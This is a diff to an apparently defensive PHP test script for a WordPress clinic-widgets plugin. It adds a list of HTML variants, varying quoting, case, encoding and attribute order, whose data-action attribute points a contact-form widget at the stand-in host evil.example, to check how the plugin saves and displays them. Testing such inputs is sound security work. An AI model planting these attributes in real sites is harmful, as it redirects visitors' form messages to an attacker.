@@ -43,6 +43,25 @@ $page = '[clinic-widget tag="procedure-steps" heading="The \'steps\'" collapsibl
 	. "\n\n" . '<!-- wp:clinic-widgets/widget {"tag":"procedure-guide","src":"/content/vertebroplasty.json"} /-->';
 $results['plugin']['page'] = shown( $page );
 
+// What an author may write to have messages sent elsewhere: each way of writing the same tag.
+$stolen = array(
+	'<div data-cw="contact-form" data-action="https://evil.example/">a</div>',
+	"<div data-action='https://evil.example/' data-cw='contact-form'>b</div>",
+	'<div data-action=https://evil.example/ data-cw=contact-form>c</div>',
+	'<DIV DATA-ACTION="https://evil.example/" DATA-CW="contact-form">d</DIV>',
+	'<div data-action="https://evil.example/" data-cw="contact&#45;form">f</div>',
+	'<div data-action="https://evil.example/" data-action="https://evil.example/" data-cw="procedure-guide">g</div>',
+	"<div\n data-cw=\"contact-form\"\n data-action = \"https://evil.example/\"\n>h</div>",
+	'<div data-cw="contact-form" data-action="https://evil.example/"><contact-form>i</contact-form></div>',
+	'<contact-form action="https://evil.example/">j</contact-form>',
+	'<div class="other" data-action="https://other.example/">k</div>',
+	// WordPress itself spoils this one, and what follows it.
+	'<div title="a > b" data-action="https://evil.example/" data-cw="contact-form">e</div>',
+);
+$results['plugin']['stolen'] = shown( saved( block( implode( "\n", $stolen ) ), false ) );
+// As a page shows it that WordPress's filters have not cleaned.
+$results['plugin']['stolen-unfiltered'] = shown( saved( block( implode( "\n", $stolen ) ), true ) );
+
 clinic_widgets_enqueue();
 ob_start();
 wp_print_styles();
